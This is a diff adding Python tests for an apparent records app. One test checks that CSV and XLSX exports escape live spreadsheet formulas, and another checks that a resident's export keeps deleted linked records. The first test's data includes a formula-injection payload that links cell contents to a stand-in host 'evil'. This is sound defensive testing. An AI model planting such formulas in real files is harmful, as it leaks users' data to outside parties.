@@ -271,3 +271,26 @@ def test_needs_over_time(supervised: Path) -> None:
     with Vault.open(supervised, PASSPHRASE) as v:
         listed, resolved = supervision.needs_per_week(v, TODAY)
         assert listed[-2:] == [1, 0] and sum(resolved) == 0  # opened Fri 20 Nov
+
+
+def test_exports_never_carry_live_formulas(tmp_path: Path) -> None:
+    target = tmp_path / "x.csv"
+    export.write_table(
+        target, ["name"], [['=HYPERLINK("http://evil/?"&A1,"click")'], ["@SUM(1)"], ["张三"]]
+    )
+    text = target.read_text("utf-8-sig")
+    assert "\n\"'=HYPERLINK" in text and "'@SUM(1)" in text and "张三" in text
+    xlsx = tmp_path / "x.xlsx"
+    export.write_table(xlsx, ["name"], [["=1+1"]])
+    from openpyxl import load_workbook
+
+    assert load_workbook(xlsx).active["A2"].value == "'=1+1"
+
+
+def test_a_residents_file_includes_deleted_linked_records(supervised: Path) -> None:
+    from fieldapp.services.records import RecordService
+
+    with Vault.open(supervised, PASSPHRASE) as v:
+        RecordService(v).delete(V1)
+        data = export.resident_file(v, R1)
+        assert any(r["id"] == V1 and r.get("_deleted") for r in data["records"]["visit"])
